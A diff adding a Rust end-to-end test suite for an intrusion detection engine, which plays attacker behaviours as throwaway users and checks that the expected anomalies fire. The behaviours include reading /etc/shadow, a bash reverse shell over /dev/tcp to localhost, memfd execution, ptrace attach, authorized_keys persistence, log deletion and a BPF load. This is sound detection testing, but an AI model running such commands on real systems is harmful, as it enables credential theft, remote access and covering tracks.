@@ -1,0 +1,702 @@
+//! Detection scenarios for real: throw-away users, a benign baseline learned from the live
+//! kernel stream, then each detection's behaviour played as one of those users and the
+//! anomaly and its reasons checked. Runs as root; fails when it cannot.
+
+use std::io::{Read, Write};
+use std::process::{Command, Stdio};
+use std::sync::{Mutex, OnceLock};
+use std::time::{Duration, Instant};
+
+use sentinel::config::Config;
+use sentinel::detect::model::{Anomaly, Level};
+use sentinel::detect::{Engine, EngineOptions};
+use sentinel::store::Store;
+use sentinel_e2e::*;
+
+/// Where helper binaries for the scenarios live (root-owned, not world-writable).
+const TOOLS: &str = "/usr/local/lib/sentinel-scenarios";
+const DEV: &str = "sntl-dev";
+const ATK: &str = "sntl-atk";
+
+struct User {
+    uid: u32,
+    gid: u32,
+    home: String,
+}
+
+struct World {
+    dev: User,
+    atk: User,
+    anomalies: Mutex<Vec<Anomaly>>,
+    /// Id of the last event the engine has processed.
+    seen: Mutex<u64>,
+    _db: tempfile::TempDir,
+}
+
+fn sh(script: &str) {
+    let st = Command::new("sh")
+        .args(["-c", script])
+        .status()
+        .expect("sh");
+    assert!(st.success(), "setup failed: {script}");
+}
+
+fn remove_user(name: &str) {
+    let _ = Command::new("userdel")
+        .args(["-r", "-f", name])
+        .stderr(Stdio::null())
+        .status();
+}
+
+extern "C" fn cleanup() {
+    for u in [DEV, ATK] {
+        remove_user(u);
+    }
+    let _ = std::fs::remove_dir_all(TOOLS);
+}
+
+impl User {
+    fn create(name: &'static str) -> User {
+        remove_user(name);
+        sh(&format!("useradd -m -s /bin/bash {name}"));
+        let id = |flag: &str| -> u32 {
+            let o = Command::new("id").args([flag, name]).output().expect("id");
+            String::from_utf8_lossy(&o.stdout)
+                .trim()
+                .parse()
+                .expect("numeric id")
+        };
+        let u = User {
+            uid: id("-u"),
+            gid: id("-g"),
+            home: format!("/home/{name}"),
+        };
+        sh(&format!(
+            "mkdir -p {h}/proj {h}/.ssh && chown -R {name}: {h}",
+            h = u.home
+        ));
+        u
+    }
+
+    /// A command running as this user, with its login uid set as a login would.
+    fn cmd(&self, args: &[&str]) -> Command {
+        self.cmd_with(args, true)
+    }
+
+    /// A command running as root on behalf of this user (like sudo: the login uid stays).
+    fn root_cmd(&self, args: &[&str]) -> Command {
+        self.cmd_with(args, false)
+    }
+
+    fn cmd_with(&self, args: &[&str], drop: bool) -> Command {
+        use std::os::unix::process::CommandExt;
+        let script = if drop {
+            "exec setpriv --reuid=$SNTL_UID --regid=$SNTL_GID --clear-groups -- \"$@\""
+        } else {
+            "exec \"$@\""
+        };
+        let mut c = Command::new("/bin/sh");
+        c.arg("-c")
+            .arg(script)
+            .arg("sh")
+            .args(args)
+            .env_clear()
+            .env("SNTL_UID", self.uid.to_string())
+            .env("SNTL_GID", self.gid.to_string())
+            .env("HOME", &self.home)
+            .env("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin")
+            .current_dir(&self.home)
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null());
+        // The login uid is set before the first exec, as a login does, so that everything
+        // the command does is the user's.
+        let uid = self.uid.to_string();
+        // SAFETY: the closure only makes raw open/write/close calls (async-signal-safe) on
+        // data prepared before the fork.
+        unsafe {
+            c.pre_exec(move || {
+                let fd = libc::open(c"/proc/self/loginuid".as_ptr(), libc::O_WRONLY);
+                if fd < 0 {
+                    return Err(std::io::Error::last_os_error());
+                }
+                let n = libc::write(fd, uid.as_ptr().cast(), uid.len());
+                libc::close(fd);
+                if n != uid.len() as isize {
+                    return Err(std::io::Error::last_os_error());
+                }
+                Ok(())
+            });
+        }
+        c
+    }
+
+    fn run(&self, args: &[&str]) {
+        let _ = self.cmd(args).status().expect("spawn as user");
+    }
+
+    fn run_root(&self, args: &[&str]) {
+        let _ = self.root_cmd(args).status().expect("spawn for user");
+    }
+}
+
+/// Ordinary developer work: edit, build, git, package queries.
+fn benign_work(u: &User, round: u32) {
+    let p = format!("{}/proj", u.home);
+    u.run(&[
+        "sh",
+        "-c",
+        &format!("printf 'int main(void){{return {round};}}\\n' > {p}/main.c"),
+    ]);
+    u.run(&[
+        "sh",
+        "-c",
+        &format!("printf 'all:\\n\\tcc -o main main.c\\n' > {p}/Makefile"),
+    ]);
+    u.run(&["make", "-C", &p]);
+    u.run(&["git", "-C", &p, "init", "-q"]);
+    u.run(&["git", "-C", &p, "add", "."]);
+    u.run(&[
+        "git",
+        "-C",
+        &p,
+        "-c",
+        "user.name=t",
+        "-c",
+        "user.email=t@t",
+        "commit",
+        "-qm",
+        "x",
+    ]);
+    u.run(&["git", "-C", &p, "status"]);
+    u.run(&["ls", "-la", &p]);
+    u.run(&["grep", "-r", "main", &p]);
+    u.run(&["sed", "-i", "s/return/return /", &format!("{p}/main.c")]);
+    u.run(&["cat", &format!("{p}/main.c")]);
+    u.run(&["dpkg", "-l", "bash"]);
+    u.run(&["apt-cache", "policy", "bash"]);
+}
+
+/// Runs a marker process and waits until the engine has processed its exec, so every event
+/// before it has been analysed. Slow is not failure: the engine (a debug build here) may be
+/// behind a busy host, so the wait for it is long.
+fn settle(w: &World) {
+    static N: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
+    let tag = format!(
+        "sentinel-settle-{}-{}",
+        std::process::id(),
+        N.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
+    );
+    let st = Command::new("/bin/true").arg(&tag).status().expect("true");
+    assert!(st.success());
+    let ev = wait_for("settle marker exec", |e| {
+        matches!(&e.payload, sentinel::event::Payload::Exec { argv, .. }
+            if argv.iter().any(|a| a.as_bytes() == tag.as_bytes()))
+    });
+    let deadline = Instant::now() + Duration::from_secs(180);
+    while *w.seen.lock().expect("lock") < ev.id {
+        assert!(
+            Instant::now() < deadline,
+            "engine did not catch up in 180 s"
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+/// What the scenario engine analyses: every process lifecycle event (the process table needs
+/// them all for chains), everything else only of the test users. Other helpers compiling on
+/// the same host make far more file events than a debug-build engine handles in time; they
+/// belong to other principals and cannot change these users' anomalies.
+fn relevant(ev: &sentinel::event::Event, users: &[u32]) -> bool {
+    use sentinel::event::Payload;
+    matches!(
+        ev.payload,
+        Payload::Fork { .. } | Payload::Exec { .. } | Payload::Exit { .. }
+    ) || ev.auid.is_some_and(|a| users.contains(&a))
+}
+
+fn world() -> &'static World {
+    static W: OnceLock<&'static World> = OnceLock::new();
+    W.get_or_init(|| {
+        require_root();
+        start_live();
+        // SAFETY: registering a plain extern "C" function.
+        unsafe { libc::atexit(cleanup) };
+        let dev = User::create(DEV);
+        let atk = User::create(ATK);
+        sh(&format!(
+            "mkdir -p {TOOLS} && cp /usr/bin/bash {TOOLS}/nginx && cp /usr/bin/id {TOOLS}/rootid \
+             && chmod 4755 {TOOLS}/rootid && mkdir -p /home/{DEV}/docs \
+             && for i in $(seq 1 25); do echo secret $i > /home/{DEV}/docs/f$i.txt; done \
+             && chown -R {DEV}: /home/{DEV}/docs"
+        ));
+        let db = tempfile::tempdir().expect("tempdir");
+        let store = Store::open(&db.path().join("sentinel.db")).expect("store");
+        let cfg = Config::default();
+        let mut engine = Engine::with_options(
+            &cfg,
+            store,
+            EngineOptions {
+                live: true,
+                users: None,
+                learn_all: true,
+            },
+        )
+        .expect("engine");
+        let w: &'static World = Box::leak(Box::new(World {
+            dev,
+            atk,
+            anomalies: Mutex::new(Vec::new()),
+            seen: Mutex::new(0),
+            _db: db,
+        }));
+        // Learning: the benign baseline of both users, then vouch for it.
+        let (learned_tx, learned_rx) = std::sync::mpsc::channel::<u64>();
+        let (done_tx, done_rx) = std::sync::mpsc::channel::<()>();
+        std::thread::spawn(move || {
+            let mut learn_until: Option<u64> = None;
+            let mut learning = true;
+            loop {
+                let last = *w.seen.lock().expect("lock");
+                let evs = events_after(last);
+                for ev in &evs {
+                    *w.seen.lock().expect("lock") = ev.id;
+                    if !relevant(ev, &[w.dev.uid, w.atk.uid]) {
+                        continue;
+                    }
+                    let out = engine.observe(ev);
+                    w.anomalies.lock().expect("lock").extend(out);
+                }
+                if learn_until.is_none() {
+                    learn_until = learned_rx.try_recv().ok();
+                }
+                let last = *w.seen.lock().expect("lock");
+                if learning && learn_until.is_some_and(|u| last >= u) {
+                    // Close the learning window, vouch for it, and start detecting.
+                    engine.finish();
+                    engine.vouch().expect("vouch");
+                    engine.set_learn_all(false);
+                    w.anomalies.lock().expect("lock").clear();
+                    learning = false;
+                    let _ = done_tx.send(());
+                }
+                if evs.is_empty() {
+                    std::thread::sleep(Duration::from_millis(20));
+                }
+            }
+        });
+        for round in 0..2 {
+            benign_work(&w.dev, round);
+            benign_work(&w.atk, round);
+        }
+        let tag = format!("sentinel-learned-{}", std::process::id());
+        Command::new("/bin/true").arg(&tag).status().expect("true");
+        let ev = wait_for("end of learning marker", |e| {
+            matches!(&e.payload, sentinel::event::Payload::Exec { argv, .. }
+                if argv.iter().any(|a| a.as_bytes() == tag.as_bytes()))
+        });
+        learned_tx.send(ev.id).expect("engine thread");
+        done_rx
+            .recv_timeout(Duration::from_secs(300))
+            .expect("learning did not finish");
+        w
+    })
+}
+
+/// The anomaly of `uid` with a `detection` factor whose reason contains all `parts`, once the
+/// engine has analysed everything up to now (a few rounds, for behaviours still under way).
+fn expect(uid: u32, detection: &str, parts: &[&str]) -> Anomaly {
+    let w = world();
+    for _ in 0..3 {
+        settle(w);
+        let all = w.anomalies.lock().expect("lock");
+        if let Some(a) = all.iter().find(|a| {
+            a.principal.uid == uid
+                && a.factors
+                    .iter()
+                    .any(|f| f.detection == detection && parts.iter().all(|p| f.reason.contains(p)))
+        }) {
+            let f = a
+                .factors
+                .iter()
+                .find(|f| f.detection == detection)
+                .expect("factor");
+            assert!(!f.evidence.is_empty() && f.weight > 0);
+            assert_eq!(Anomaly::score_of(&a.factors), (a.score, a.level));
+            return a.clone();
+        }
+    }
+    let mine: Vec<String> = w
+        .anomalies
+        .lock()
+        .expect("lock")
+        .iter()
+        .filter(|a| a.principal.uid == uid)
+        .flat_map(|a| {
+            a.factors
+                .iter()
+                .map(|f| format!("{}: {}", f.detection, f.reason))
+        })
+        .collect();
+    panic!("no {detection} anomaly with {parts:?} for uid {uid}; got {mine:#?}");
+}
+
+#[test]
+fn benign_developer_work_after_learning_raises_nothing_above_low() {
+    let w = world();
+    for round in 2..4 {
+        benign_work(&w.dev, round);
+    }
+    settle(w);
+    let loud: Vec<Anomaly> = w
+        .anomalies
+        .lock()
+        .expect("lock")
+        .iter()
+        .filter(|a| a.principal.uid == w.dev.uid && a.level > Level::Low)
+        .cloned()
+        .collect();
+    assert!(loud.is_empty(), "{loud:#?}");
+}
+
+#[test]
+fn credential_file_read() {
+    let w = world();
+    w.atk.run_root(&["cat", "/etc/shadow"]);
+    let a = expect(
+        w.atk.uid,
+        "credential_access",
+        &["read /etc/shadow: never seen for this user in"],
+    );
+    assert_eq!(a.principal.user.as_deref(), Some(ATK));
+    assert!(a.level >= Level::Medium);
+    assert!(
+        a.chain.last().is_some_and(|l| l.exe.ends_with("/cat")),
+        "{:?}",
+        a.chain
+    );
+}
+
+#[test]
+fn exec_from_tmp() {
+    let w = world();
+    let dir = format!("/tmp/sntl-{}", std::process::id());
+    sh(&format!(
+        "mkdir -p {dir} && cp /usr/bin/true {dir}/kworker && chmod 755 {dir}/kworker"
+    ));
+    w.atk.run(&[&format!("{dir}/kworker")]);
+    expect(
+        w.atk.uid,
+        "exec_from_writable",
+        &[&format!("executed {dir}/kworker from /tmp/")],
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+#[test]
+fn exec_from_memfd() {
+    let w = world();
+    w.atk.run(&[
+        "/usr/bin/python3",
+        "-c",
+        "import os; fd=os.memfd_create('payload'); os.write(fd, open('/usr/bin/true','rb').read()); os.execv(f'/proc/self/fd/{fd}', ['payload'])",
+    ]);
+    expect(w.atk.uid, "exec_from_memfd", &["memfd:payload"]);
+}
+
+#[test]
+fn shell_below_a_network_service() {
+    let w = world();
+    w.atk
+        .run(&[&format!("{TOOLS}/nginx"), "-c", "sh -c 'echo hi'; true"]);
+    expect(
+        w.atk.uid,
+        "service_shell",
+        &[&format!("spawned by network-facing service {TOOLS}/nginx")],
+    );
+}
+
+#[test]
+fn reverse_shell_with_stdio_on_a_socket() {
+    let w = world();
+    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
+    let port = l.local_addr().expect("addr").port();
+    let mut child = w
+        .atk
+        .cmd(&[
+            "bash",
+            "-c",
+            &format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
+        ])
+        .spawn()
+        .expect("spawn");
+    // The shell must connect back; fail (not hang) when it does not.
+    l.set_nonblocking(true).expect("nonblocking");
+    let deadline = Instant::now() + EVENT_WAIT;
+    let mut conn = loop {
+        match l.accept() {
+            Ok((c, _)) => break c,
+            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
+                assert!(
+                    Instant::now() < deadline,
+                    "the reverse shell never connected"
+                );
+                std::thread::sleep(Duration::from_millis(20));
+            }
+            Err(e) => panic!("accept: {e}"),
+        }
+    };
+    conn.set_nonblocking(false).expect("blocking");
+    let a = expect(
+        w.atk.uid,
+        "reverse_shell",
+        &["on a network socket (reverse shell)"],
+    );
+    assert!(a.level >= Level::High);
+    expect(
+        w.atk.uid,
+        "reverse_shell",
+        &["connected to 127.0.0.1:", "itself"],
+    );
+    let _ = conn.write_all(b"exit\n");
+    let mut sink = Vec::new();
+    let _ = conn.set_read_timeout(Some(Duration::from_secs(2)));
+    let _ = conn.read_to_end(&mut sink);
+    let _ = child.kill();
+    let _ = child.wait();
+}
+
+#[test]
+fn first_ever_destination() {
+    let w = world();
+    w.atk.run(&[
+        "/usr/bin/python3",
+        "-c",
+        "import socket; s=socket.socket(); s.setblocking(False); s.connect_ex(('192.0.2.1', 9))",
+    ]);
+    expect(
+        w.atk.uid,
+        "new_destination",
+        &["connected to 192.0.2.1:9", "never seen for this user"],
+    );
+}
+
+#[test]
+fn set_uid_root_binary() {
+    let w = world();
+    w.atk.run(&[&format!("{TOOLS}/rootid")]);
+    expect(
+        w.atk.uid,
+        "privilege_escalation",
+        &[&format!(
+            "{TOOLS}/rootid gained root (euid {} -> 0) at exec",
+            w.atk.uid
+        )],
+    );
+}
+
+#[test]
+fn su_never_used_before() {
+    let w = world();
+    // Without a controlling terminal su cannot prompt: it fails at once, after its exec.
+    w.atk.run(&["setsid", "su", "-c", "true", "root"]);
+    expect(
+        w.atk.uid,
+        "unusual_switch_user",
+        &["ran su: never used by this user"],
+    );
+}
+
+#[test]
+fn ptrace_attach() {
+    let w = world();
+    w.atk.run(&[
+        "/usr/bin/python3",
+        "-c",
+        "import ctypes, os, signal, time\n\
+         pid = os.fork()\n\
+         if pid == 0:\n    time.sleep(30); os._exit(0)\n\
+         libc = ctypes.CDLL(None, use_errno=True)\n\
+         libc.ptrace(16, pid, None, None)\n\
+         os.kill(pid, signal.SIGKILL)\n",
+    ]);
+    expect(w.atk.uid, "ptrace", &["used PTRACE_ATTACH on"]);
+}
+
+#[test]
+fn mass_read_of_another_users_files() {
+    let w = world();
+    w.atk
+        .run_root(&["sh", "-c", &format!("cat /home/{DEV}/docs/*")]);
+    expect(
+        w.atk.uid,
+        "mass_read",
+        &[&format!(
+            "read 20 files in other users' home directories ({DEV})"
+        )],
+    );
+}
+
+#[test]
+fn authorized_keys_write() {
+    let w = world();
+    w.atk.run(&[
+        "sh",
+        "-c",
+        "echo 'ssh-ed25519 AAAA test' >> $HOME/.ssh/authorized_keys",
+    ]);
+    expect(
+        w.atk.uid,
+        "persistence",
+        &[&format!("wrote /home/{ATK}/.ssh/authorized_keys with")],
+    );
+}
+
+#[test]
+fn log_file_deleted_and_truncated() {
+    let w = world();
+    let f = format!("/var/log/sntl-test-{}.log", std::process::id());
+    w.atk
+        .run_root(&["sh", "-c", &format!("echo x > {f}; rm -f {f}")]);
+    expect(
+        w.atk.uid,
+        "log_tampering",
+        &[&format!("truncated {f} with")],
+    );
+    expect(w.atk.uid, "log_tampering", &[&format!("deleted {f} with")]);
+}
+
+#[test]
+fn account_created() {
+    let w = world();
+    let name = "sntl-bd";
+    remove_user(name);
+    w.atk.run_root(&["useradd", "-M", name]);
+    remove_user(name);
+    expect(
+        w.atk.uid,
+        "account_change",
+        &[&format!("ran useradd -M {name}: changes user accounts")],
+    );
+}
+
+#[test]
+fn discovery_burst() {
+    let w = world();
+    for c in [
+        &["id"][..],
+        &["whoami"],
+        &["uname", "-a"],
+        &["hostname"],
+        &["cat", "/etc/passwd"],
+    ] {
+        w.atk.run(c);
+    }
+    expect(
+        w.atk.uid,
+        "discovery_burst",
+        &["discovery commands within 120 s"],
+    );
+}
+
+#[test]
+fn bpf_program_load() {
+    let w = world();
+    // BPF_PROG_LOAD of "r0 = 0; exit" as a socket filter.
+    w.atk.run_root(&[
+        "/usr/bin/python3",
+        "-c",
+        "import ctypes, struct\n\
+         libc = ctypes.CDLL(None, use_errno=True)\n\
+         insns = ctypes.create_string_buffer(struct.pack('<BBhiBBhi', 0xb7, 0, 0, 0, 0x95, 0, 0, 0), 16)\n\
+         lic = ctypes.create_string_buffer(b'GPL')\n\
+         attr = ctypes.create_string_buffer(struct.pack('<IIQQ', 1, 2, ctypes.addressof(insns), ctypes.addressof(lic)), 128)\n\
+         fd = libc.syscall(321, 5, attr, 128)\n\
+         assert fd >= 0, ctypes.get_errno()\n",
+    ]);
+    expect(
+        w.atk.uid,
+        "bpf_load",
+        &["loaded a BPF program (BPF_PROG_LOAD)"],
+    );
+}
+
+#[test]
+fn kernel_module_tool() {
+    let w = world();
+    w.atk.run_root(&["insmod", "/nonexistent-sentinel.ko"]);
+    expect(
+        w.atk.uid,
+        "kernel_module",
+        &["/nonexistent-sentinel.ko from a login session"],
+    );
+}
+
+/// Learned hours cannot be played back in real time, so this baseline is written as if the
+/// user had always worked twelve hours away from now; the activity itself is real.
+#[test]
+fn activity_outside_learned_hours() {
+    use sentinel::profile::{Calibration, Profile};
+    let w = world();
+    let d = tempfile::tempdir().expect("tempdir");
+    let store = Store::open(&d.path().join("s.db")).expect("store");
+    let now = sentinel::store::now_ns();
+    let day = 86_400_000_000_000i64;
+    let hour = sentinel::detect::engine::local_hour(now) as usize;
+    let mut p = Profile::new(now - 14 * day);
+    p.windows = 1000;
+    p.last_ns = now - day;
+    p.vouched = true;
+    p.state = Calibration::Calibrated;
+    p.hours[(hour + 12) % 24] = 1000;
+    store
+        .put_baseline(
+            "profile:principal",
+            &w.atk.uid.to_string(),
+            &serde_json::to_value(&p).expect("json"),
+        )
+        .expect("put");
+    let mut engine = Engine::with_options(
+        &Config::default(),
+        store,
+        EngineOptions {
+            live: true,
+            users: None,
+            learn_all: false,
+        },
+    )
+    .expect("engine");
+    let tag = format!("sentinel-hours-{}", std::process::id());
+    Command::new("/bin/true").arg(&tag).status().expect("true");
+    let mark = wait_for("hours marker", |e| {
+        matches!(&e.payload, sentinel::event::Payload::Exec { argv, .. }
+            if argv.iter().any(|a| a.as_bytes() == tag.as_bytes()))
+    });
+    w.atk.run(&["ls", "/"]);
+    let deadline = Instant::now() + Duration::from_secs(60);
+    let mut last = mark.id;
+    loop {
+        let evs = events_after(last);
+        for ev in &evs {
+            last = ev.id;
+            if !relevant(ev, &[w.atk.uid]) {
+                continue;
+            }
+            for a in engine.observe(ev) {
+                if a.principal.uid == w.atk.uid
+                    && let Some(f) = a.factors.iter().find(|f| f.detection == "off_hours")
+                {
+                    assert!(
+                        f.reason.contains("this user was never active between")
+                            && f.reason.contains("13 days of baseline"),
+                        "{}",
+                        f.reason
+                    );
+                    return;
+                }
+            }
+        }
+        assert!(Instant::now() < deadline, "no off_hours anomaly for {ATK}");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
